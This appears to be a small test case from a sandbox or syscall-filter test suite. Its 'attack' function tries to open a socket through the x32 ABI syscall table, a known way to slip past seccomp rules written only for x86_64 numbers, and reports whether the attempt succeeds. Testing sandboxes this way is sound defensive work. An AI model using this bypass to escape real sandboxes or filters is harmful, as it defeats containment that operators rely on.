# what: use the calls of another architecture's table, which have other numbers: x32 and 32 bits

import ctypes
import os

X32 = 0x40000000


def attack():
    child = os.fork()
    if not child:
        through = ctypes.CDLL(None).syscall(X32 + 41, 2, 1, 0) >= 0  # socket
        os._exit(100 if through else 0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 100
